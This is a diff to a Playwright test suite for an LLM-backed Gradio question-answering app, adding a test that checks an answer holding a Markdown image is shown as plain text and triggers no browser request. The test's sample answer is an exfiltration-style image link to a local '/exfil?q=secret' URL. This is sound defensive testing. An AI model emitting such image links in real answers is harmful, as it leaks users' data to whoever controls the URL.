@@ -16,7 +16,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
-from app_fixtures import GRADIO_QUEUE_PANDAS_WARNINGS, MAX_UPLOAD_FILES, MAX_UPLOAD_MB
+from app_fixtures import GRADIO_QUEUE_PANDAS_WARNINGS, IMAGE_TRIGGER, MAX_UPLOAD_FILES, MAX_UPLOAD_MB
 from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
 
@@ -491,3 +491,19 @@ def test_a_question_asked_during_an_upload_says_it_searches_without_it(open_page
     assert not page.evaluate("clearInterval(window.__uploadInAnswerLog), window.__mixed"), "upload progress in the log"
     assert status_text(page) == log, "the upload's progress should never replace the answer's status log"
     assert "Embedded" in status_text(page, UPLOAD_LOG)
+
+
+def test_an_answer_holding_a_markdown_image_makes_the_browser_fetch_nothing(open_page):
+    page = open_page()
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+    set_pacing(page, 0)
+    page.get_by_label("Answer backend").click()
+    page.get_by_role("option", name="openai").click()
+
+    ask(page, f"What is the {IMAGE_TRIGGER} reading?")  # the test server answers with a Markdown image
+    wait_for_status(page, "Done")
+
+    assert "![chart](http://127.0.0.1:9/exfil?q=secret)" in answer_text(page), "shown as text, as written"
+    assert page.locator("#answer img").count() == 0, "the answer must not show an image from a URL"
+    assert not [url for url in requested if "exfil" in url], f"the page fetched {requested}"
